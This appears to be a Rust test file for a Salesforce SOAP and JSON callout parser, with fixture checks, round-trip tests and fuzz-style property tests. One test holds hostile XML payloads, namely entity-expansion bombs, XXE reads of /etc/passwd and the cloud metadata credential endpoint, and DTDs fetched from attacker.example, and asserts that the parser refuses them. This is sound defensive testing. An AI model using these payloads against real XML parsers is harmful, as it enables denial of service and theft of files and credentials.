//! The inbound parsers through their public API: the Salesforce samples, envelopes of every
//! allowed size, hostile XML (X1/X2 in the reliability checklist), the JSON callout shapes, and
//! property tests that no input makes a parser panic and that valid envelopes round-trip.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use proptest::prelude::*;
// Also writes CR as `&#13;`: a literal CR would be normalized to LF by any XML parser.
use quick_xml::escape::escape;
use serde_json::{json, Map, Value};
use sfbridge_core::domain::SalesforceId;
use sfbridge_inbound::{callout, normalize, soap, EventType, InvalidPayload, Source, MAX_NOTIFICATIONS};

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../fixtures/salesforce");

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{FIXTURES}/{name}")).unwrap_or_else(|e| unreachable!("fixture {name}: {e}"))
}

/// Hostile inputs must fail fast; generous for a debug build on a busy 2-core CI runner.
const QUICKLY: Duration = Duration::from_secs(2);

// ------------------------------------------------------------------------------------ helpers

/// One generated notification: ids as sent, fields in the order written (`None`: `xsi:nil`).
#[derive(Debug, Clone)]
struct Gen {
    id: String,
    sobject_type: String,
    record_id: String,
    fields: BTreeMap<String, Option<String>>,
}

fn envelope(notifications: &[Gen]) -> String {
    let mut out = String::from(concat!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n",
        "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" ",
        "xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\">\n",
        " <soapenv:Body>\n",
        "  <notifications xmlns=\"http://soap.sforce.com/2005/09/outbound\">\n",
        "   <OrganizationId>00D5g000004ABCDEAZ</OrganizationId>\n",
        "   <ActionId>04k5g000000XyzAAAS</ActionId>\n",
        "   <SessionId xsi:nil=\"true\"/>\n",
        "   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/66.0/00D5g000004ABCD</EnterpriseUrl>\n",
        "   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/66.0/00D5g000004ABCD</PartnerUrl>\n",
    ));
    for n in notifications {
        out.push_str(&format!(
            "   <Notification>\n    <Id>{}</Id>\n    <sObject xsi:type=\"sf:{}\" xmlns:sf=\"urn:sobject.enterprise.soap.sforce.com\">\n     <sf:Id>{}</sf:Id>\n",
            n.id, n.sobject_type, n.record_id
        ));
        for (name, value) in &n.fields {
            match value {
                Some(text) => out.push_str(&format!("     <sf:{name}>{}</sf:{name}>\n", escape(text))),
                None => out.push_str(&format!("     <sf:{name} xsi:nil=\"true\"/>\n")),
            }
        }
        out.push_str("    </sObject>\n   </Notification>\n");
    }
    out.push_str("  </notifications>\n </soapenv:Body>\n</soapenv:Envelope>\n");
    out
}

/// `count` simple notifications with distinct ids and record ids.
fn numbered(count: usize) -> Vec<Gen> {
    (0..count)
        .map(|i| Gen {
            id: format!("04l5g00000Q{i:04}AAB"),
            sobject_type: "Contact".into(),
            record_id: format!("0035g0000{i:06}"),
            fields: BTreeMap::from([("LastName".to_owned(), Some(format!("Person {i}")))]),
        })
        .collect()
}

fn assert_matches(parsed: &sfbridge_inbound::OutboundMessage, generated: &[Gen]) {
    assert_eq!(parsed.organization_id, "00D5g000004ABCDEAZ");
    assert_eq!(parsed.action_id.as_deref(), Some("04k5g000000XyzAAAS"));
    assert_eq!(parsed.notifications.len(), generated.len());
    for (n, g) in parsed.notifications.iter().zip(generated) {
        assert_eq!(n.notification_id.as_deref(), Some(g.id.as_str()));
        assert_eq!(n.sobject_type.as_deref(), Some(g.sobject_type.as_str()));
        assert_eq!(n.record_id, Some(SalesforceId::parse(&g.record_id).unwrap()));
        let expected: Map<String, Value> =
            g.fields.iter().map(|(k, v)| (k.clone(), v.clone().map_or(Value::Null, Value::String))).collect();
        assert_eq!(n.fields, expected);
        assert_eq!((n.event_type, &n.status, &n.experiment_key), (None, &None, &None));
    }
}

fn refused_quickly(what: &str, body: &[u8]) -> InvalidPayload {
    let started = Instant::now();
    let result = soap::parse(body);
    let took = started.elapsed();
    assert!(took < QUICKLY, "{what}: took {took:?}");
    result.err().unwrap_or_else(|| unreachable!("{what}: accepted"))
}

// ------------------------------------------------------------------------- Outbound Messages

#[test]
fn salesforce_sample_parses_and_normalizes() {
    let body = fixture("outbound-message-opportunity-two-notifications-with-session.xml");
    let parsed = soap::parse(&body).unwrap();
    assert_eq!(parsed.organization_id, "00D5g000004ABCDEAZ");
    assert_eq!(parsed.action_id.as_deref(), Some("04k5g000000XyzAAAS"));
    assert_eq!(parsed.notifications.len(), 2);

    let [first, second] = &parsed.notifications[..] else { unreachable!() };
    assert_eq!(first.notification_id.as_deref(), Some("04l5g00000Q1aaaAAB"));
    assert_eq!(second.notification_id.as_deref(), Some("04l5g00000Q1aabAAB"));
    assert_eq!(first.sobject_type.as_deref(), Some("Opportunity"));
    assert_eq!(second.sobject_type.as_deref(), Some("Opportunity"));
    assert_eq!(first.record_id.as_ref().map(SalesforceId::as_str), Some("0065g00000KLmnoAAD"));
    assert_eq!(second.record_id.as_ref().map(SalesforceId::as_str), Some("0065g00000KLmnpAAD"));
    assert_eq!(
        Value::Object(first.fields.clone()),
        json!({
            "AccountId": "0015g00000PQrstAAB",
            "Amount": "48000.0",
            "CloseDate": "2026-12-15",
            "IsWon": "true",
            "LastModifiedDate": "2026-11-20T14:03:11.000Z",
            "Name": "Acme - Annual Renewal",
            "StageName": "Closed Won",
            "Experiment_Id__c": "exp_7f3a9c"
        })
    );
    assert_eq!(
        Value::Object(second.fields.clone()),
        json!({
            "AccountId": "0015g00000PQrsuAAB",
            "CloseDate": "2026-12-31",
            "IsWon": "false",
            "LastModifiedDate": "2026-11-20T14:03:11.000Z",
            "Name": "Globex - Pilot",
            "StageName": "Closed Lost"
        })
    );
    assert!(!second.fields.contains_key("Amount"));

    let debug = format!("{parsed:?}");
    assert!(!debug.contains("00D5g000004ABCD!AQ0AQ") && !debug.contains("AQ0AQ"), "the session id leaked");

    assert_eq!(normalize::event_type(first, Source::OutboundMessage), EventType::OpportunityClosedWon);
    assert_eq!(normalize::event_type(second, Source::OutboundMessage), EventType::RecordChanged);
    assert_eq!(normalize::experiment_key(first), None);
    assert_eq!(normalize::campaign_status(first), None);
}

#[test]
fn ack_is_the_fixture_byte_for_byte() {
    assert_eq!(soap::ACK.as_bytes(), &fixture("outbound-message-ack.xml")[..]);
}

#[test]
fn fault_is_a_soap_client_fault() {
    let body = soap::fault("OrganizationId <00D…> does not match");
    assert!(body.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<soapenv:Envelope"));
    assert!(body.contains("<soapenv:Fault>"));
    assert!(body.contains("<faultcode>soapenv:Client</faultcode>"));
    assert!(body.contains("<faultstring>OrganizationId &lt;00D…&gt; does not match</faultstring>"));
    // A fault is not a notifications envelope.
    assert!(soap::parse(body.as_bytes()).is_err());
}

#[test]
fn envelopes_of_every_allowed_size_round_trip() {
    for count in [1, 3, MAX_NOTIFICATIONS] {
        let generated = numbered(count);
        let parsed = soap::parse(envelope(&generated).as_bytes()).unwrap();
        assert_matches(&parsed, &generated);
    }
    let empty = refused_quickly("0 notifications", envelope(&[]).as_bytes());
    assert!(empty.0.contains("no notifications"), "{empty}");
    let too_many = refused_quickly("101 notifications", envelope(&numbered(MAX_NOTIFICATIONS + 1)).as_bytes());
    assert!(too_many.0.contains("more than 100 notifications"), "{too_many}");
}

#[test]
fn response_bodies_are_not_requests() {
    for name in ["outbound-message-ack.xml", "outbound-message-nack.xml"] {
        let refused = refused_quickly(name, &fixture(name));
        assert!(refused.0.contains("no notifications element"), "{refused}");
    }
}

#[test]
fn hostile_xml_is_refused_quickly() {
    let valid = envelope(&numbered(1));
    let with_doctype = |doctype: &str| {
        format!("<?xml version=\"1.0\"?>\n{doctype}\n{}", &valid[valid.find("<soapenv:Envelope").unwrap()..])
    };
    let (head, tail) = valid.split_at(valid.find("<sf:LastName>").unwrap());

    let billion_laughs = {
        let mut dtd = String::from("<!DOCTYPE soapenv:Envelope [\n <!ENTITY lol \"lol\">\n");
        for i in 1..=9 {
            let prev = if i == 1 { "lol".to_owned() } else { format!("lol{}", i - 1) };
            dtd.push_str(&format!(" <!ENTITY lol{i} \"{}\">\n", format!("&{prev};").repeat(10)));
        }
        dtd.push(']');
        dtd.push('>');
        with_doctype(&dtd).replace("Person 0", "&lol9;")
    };
    let quadratic = with_doctype(&format!("<!DOCTYPE x [<!ENTITY a \"{}\">]>", "x".repeat(50_000)))
        .replace("Person 0", &"&a;".repeat(10_000));
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("billion laughs", billion_laughs.into_bytes(), "DOCTYPE is not allowed"),
        ("quadratic blowup", quadratic.into_bytes(), "DOCTYPE is not allowed"),
        (
            "XXE file",
            with_doctype("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>").replace("Person 0", "&xxe;").into_bytes(),
            "DOCTYPE is not allowed",
        ),
        (
            "XXE metadata endpoint",
            with_doctype("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>")
                .replace("Person 0", "&xxe;")
                .into_bytes(),
            "DOCTYPE is not allowed",
        ),
        (
            "parameter entities",
            with_doctype("<!DOCTYPE x [<!ENTITY % ext SYSTEM \"http://attacker.example/evil.dtd\"> %ext; <!ENTITY % p \"<!ENTITY q 'x'>\"> %p;]>")
                .into_bytes(),
            "DOCTYPE is not allowed",
        ),
        ("external DTD", with_doctype("<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">").into_bytes(), "DOCTYPE is not allowed"),
        ("bare DOCTYPE", with_doctype("<!DOCTYPE soapenv:Envelope>").into_bytes(), "DOCTYPE is not allowed"),
        ("undeclared entity", valid.replace("Person 0", "&xxe;").into_bytes(), "entity reference other than"),
        (
            "100,000-deep nesting in the envelope",
            format!("{head}<sf:Deep>{}{}</sf:Deep>{tail}", "<a>".repeat(100_000), "</a>".repeat(100_000)).into_bytes(),
            "nested more than 12 deep",
        ),
        (
            "100,000-deep unclosed nesting in the envelope",
            format!("{head}<sf:Deep>{}", "<a>".repeat(100_000)).into_bytes(),
            "nested more than 12 deep",
        ),
        ("100,000-deep document", "<a>".repeat(100_000).into_bytes(), "root element is not a SOAP 1.1 Envelope"),
        (
            "200 KiB text in a field",
            valid.replace("Person 0", &"A".repeat(200 * 1024)).into_bytes(),
            "field LastName of notification 1 is longer than 131072 characters",
        ),
        (
            "invalid UTF-8 in a field",
            [head.as_bytes(), b"<sf:LastName>Ren\xE9</sf:LastName>", tail.as_bytes()].concat(),
            "not valid UTF-8",
        ),
        ("truncated in a field", valid.as_bytes()[..valid.find("Person 0").unwrap() + 3].to_vec(), "truncated"),
        ("truncated in a tag", valid.as_bytes()[..valid.find("</sObject>").unwrap() + 4].to_vec(), "not well-formed"),
        ("truncated before the last end tag", valid.trim_end().trim_end_matches("</soapenv:Envelope>").as_bytes().to_vec(), "truncated"),
        ("mismatched end tag", valid.replace("</sf:LastName>", "</sf:FirstName>").into_bytes(), "end tag does not match"),
        ("trailing garbage", format!("{valid}<x/>").into_bytes(), "content after the end"),
        ("second document", format!("{valid}{valid}").into_bytes(), "content after the end"),
        (
            "wrong envelope namespace",
            valid.replace("http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope").into_bytes(),
            "not a SOAP 1.1 Envelope",
        ),
        (
            "wrong notifications namespace",
            valid.replace("http://soap.sforce.com/2005/09/outbound", "http://soap.sforce.com/2005/09/outbound/").into_bytes(),
            "no notifications element",
        ),
        (
            "wrong field namespace",
            valid.replace("urn:sobject.enterprise.soap.sforce.com", "urn:sobject.partner.soap.sforce.com").into_bytes(),
            "outside namespace urn:sobject.enterprise.soap.sforce.com",
        ),
        (
            "a foreign element among the fields",
            valid.replace("<sf:LastName>", "<p:X xmlns:p=\"urn:other\"/><sf:LastName>").into_bytes(),
            "outside namespace",
        ),
        ("non-SOAP XML", b"<?xml version=\"1.0\"?><rss version=\"2.0\"><channel/></rss>".to_vec(), "not a SOAP"),
        ("JSON", br#"{"event_type":"lead_updated"}"#.to_vec(), "not a SOAP"),
        ("empty body", Vec::new(), "it is empty"),
        ("whitespace body", b" \r\n\t".to_vec(), "it is empty"),
    ];
    for (what, body, expected) in cases {
        let refused = refused_quickly(what, &body);
        assert!(refused.0.contains(expected), "{what}: {refused}");
        assert!(!refused.0.contains("passwd") && !refused.0.contains("169.254"), "{what}: {refused}");
    }
}

// ------------------------------------------------------------------------------ JSON callouts

#[test]
fn callout_seed_example() {
    let body = br#"{
        "event_type": "campaign_updated",
        "campaign_id": "701xx000000001AAAQ",
        "campaign_name": "Q1 Checkout Optimization",
        "status": "Completed",
        "experiment_key": "checkout-button-color"
    }"#;
    let parsed = callout::parse(body).unwrap();
    let [n] = &parsed[..] else { unreachable!() };
    assert_eq!(n.sobject_type.as_deref(), Some("Campaign"));
    assert_eq!(n.record_id.as_ref().map(SalesforceId::as_str), Some("701xx000000001AAAQ"));
    assert_eq!(Value::Object(n.fields.clone()), json!({"Name": "Q1 Checkout Optimization", "Status": "Completed"}));
    assert_eq!(normalize::event_type(n, Source::Callout), EventType::CampaignUpdated);
    assert_eq!(normalize::campaign_status(n).as_deref(), Some("Completed"));
    assert_eq!(normalize::experiment_key(n).as_deref(), Some("checkout-button-color"));
}

#[test]
fn callout_generic_shape_and_arrays() {
    let item = json!({
        "id": "evt-0001",
        "event_type": "opportunity_closed",
        "record_id": "0065g00000KLmnoAAD",
        "fields": {"StageName": "Closed Won", "Amount": 48000.0, "Experiment_Key__c": "exp-1"}
    });
    let parsed = callout::parse(item.to_string().as_bytes()).unwrap();
    let [n] = &parsed[..] else { unreachable!() };
    assert_eq!(n.notification_id.as_deref(), Some("evt-0001"));
    assert_eq!(n.sobject_type.as_deref(), Some("Opportunity"));
    assert_eq!(normalize::event_type(n, Source::Callout), EventType::OpportunityClosedWon);
    assert_eq!(normalize::experiment_key(n).as_deref(), Some("exp-1"));

    let one =
        callout::parse(json!([{"event_type": "contact_deleted", "sobject_type": "Contact"}]).to_string().as_bytes())
            .unwrap();
    assert_eq!(normalize::event_type(&one[0], Source::Callout), EventType::ContactDeleted);

    let hundred: Vec<Value> = (0..MAX_NOTIFICATIONS)
        .map(|i| json!({"id": format!("evt-{i}"), "sobject_type": "Lead", "fields": {"LastName": format!("L{i}")}}))
        .collect();
    let parsed = callout::parse(Value::Array(hundred).to_string().as_bytes()).unwrap();
    assert_eq!(parsed.len(), MAX_NOTIFICATIONS);
    for (i, n) in parsed.iter().enumerate() {
        assert_eq!(n.notification_id, Some(format!("evt-{i}")));
        assert_eq!(normalize::event_type(n, Source::Callout), EventType::LeadUpdated);
    }
}

#[test]
fn callout_refusals() {
    let item = json!({"event_type": "lead_updated"});
    let cases: Vec<(&str, String, &str)> = vec![
        ("unknown key", json!({"event_type": "lead_updated", "evnt": 1}).to_string(), "unknown key \"evnt\""),
        ("bad id", json!({"event_type": "lead_updated", "id": ""}).to_string(), "\"id\" must be 1 to 255"),
        ("bad id type", json!({"event_type": "lead_updated", "id": 42}).to_string(), "\"id\" must be a string"),
        (
            "bad record id",
            json!({"sobject_type": "Lead", "record_id": "00Q"}).to_string(),
            "\"record_id\" is not a Salesforce id",
        ),
        ("bad event_type", json!({"event_type": "opportunity_won"}).to_string(), "not a known event type"),
        ("neither type", json!({"id": "x"}).to_string(), "needs \"event_type\" or \"sobject_type\""),
        ("empty array", "[]".into(), "empty array"),
        ("101 items", Value::Array(vec![item.clone(); MAX_NOTIFICATIONS + 1]).to_string(), "at most 100"),
        ("non-object", "\"campaign_updated\"".into(), "must be a JSON object"),
        ("array of non-objects", "[null]".into(), "not a JSON object"),
        ("invalid JSON", "{\"event_type\": ".into(), "not valid JSON"),
        ("trailing JSON", format!("{item} {item}"), "not valid JSON"),
        ("empty body", String::new(), "not valid JSON"),
        ("200 levels deep", format!("{}{}", "[".repeat(200), "]".repeat(200)), "recursion limit"),
        (
            "200 levels deep in fields",
            format!("{{\"sobject_type\":\"Lead\",\"fields\":{{\"F\":{}{}}}}}", "{\"a\":".repeat(200), "}".repeat(200)),
            "recursion limit",
        ),
    ];
    for (what, body, expected) in cases {
        let started = Instant::now();
        let refused = callout::parse(body.as_bytes()).err().unwrap_or_else(|| unreachable!("{what}: accepted"));
        assert!(started.elapsed() < QUICKLY, "{what}");
        assert!(refused.0.contains(expected), "{what}: {refused}");
    }
}

// ------------------------------------------------------------------------------ properties

/// `PROPTEST_CASES` overrides every default here (e.g. a longer nightly run).
fn config(default_cases: u32) -> ProptestConfig {
    let cases = std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(default_cases);
    ProptestConfig { cases, failure_persistence: None, ..ProptestConfig::default() }
}

/// Random bytes, plus byte soup drawn from each format's markup so the parsers get past their
/// first check.
fn noise(alphabet: &'static [u8]) -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..256),
        proptest::collection::vec(proptest::sample::select(alphabet), 0..256),
    ]
}

const XML_ALPHABET: &[u8] = b"<>/?!=:\"' &;#x[]-soapenv:EnvelopeBodynotificationsNotificationIdsObjectsf\n\xC3\xA9\xFF";
const JSON_ALPHABET: &[u8] = b"{}[]:,\"\\ 0123456789.eE-+truefalsnl_idcampaign_typeobjectfields\n\xC3\xA9\xFF";

fn record_id15() -> impl Strategy<Value = String> {
    "[A-Za-z0-9]{15}"
}

fn generated_notification() -> impl Strategy<Value = Gen> {
    // Any character XML 1.0 can carry, weighted towards the ones that need escaping.
    let character = prop_oneof![
        3 => any::<char>().prop_filter("XML 1.0 Char", |&c| {
            matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
        }),
        2 => proptest::sample::select(&['<', '>', '&', '\'', '"', '\r', '\n', '\t', ' ', ']'][..]),
        3 => proptest::char::range('a', 'z'),
    ];
    let value = prop_oneof![
        1 => Just(None),
        8 => proptest::collection::vec(character, 0..24).prop_map(|chars| Some(chars.into_iter().collect::<String>())),
    ];
    (
        prop_oneof!["[A-Za-z0-9]{15}", "[A-Za-z0-9]{18}"],
        "[A-Za-z][A-Za-z0-9_]{0,20}",
        record_id15(),
        any::<bool>(),
        proptest::collection::btree_map(
            "[A-Za-z][A-Za-z0-9_]{0,20}".prop_filter("Id is the record id", |n| n != "Id"),
            value,
            0..8,
        ),
    )
        .prop_map(|(id, sobject_type, record15, long_form, fields)| {
            let record_id = if long_form { SalesforceId::parse(&record15).unwrap().to_string() } else { record15 };
            Gen { id, sobject_type, record_id, fields }
        })
}

fn generated_envelope(max: usize) -> impl Strategy<Value = Vec<Gen>> {
    proptest::collection::vec(generated_notification(), 1..=max)
}

proptest! {
    #![proptest_config(config(10_000))]

    #[test]
    fn soap_parse_never_panics(body in noise(XML_ALPHABET)) {
        let _ = soap::parse(&body);
    }

    #[test]
    fn callout_parse_never_panics(body in noise(JSON_ALPHABET)) {
        let _ = callout::parse(&body);
    }
}

proptest! {
    #![proptest_config(config(128))]

    #[test]
    fn generated_envelopes_round_trip(generated in generated_envelope(MAX_NOTIFICATIONS)) {
        let body = envelope(&generated);
        let parsed = soap::parse(body.as_bytes());
        prop_assert!(parsed.is_ok(), "{:?}", parsed.err());
        assert_matches(&parsed.unwrap(), &generated);
    }
}

proptest! {
    #![proptest_config(config(512))]

    #[test]
    fn mutated_envelopes_never_panic(generated in generated_envelope(4), cut in any::<prop::sample::Index>(), flip in any::<prop::sample::Index>(), mask in 1u8..=255) {
        let body = envelope(&generated).into_bytes();
        let end_of_envelope = body.len() - 1; // the final newline is optional
        let cut = cut.index(body.len());
        let truncated = soap::parse(&body[..cut]);
        prop_assert!(cut >= end_of_envelope || truncated.is_err(), "accepted a body cut at {}", cut);

        let mut flipped = body.clone();
        flipped[flip.index(body.len())] ^= mask;
        let _ = soap::parse(&flipped);
    }
}
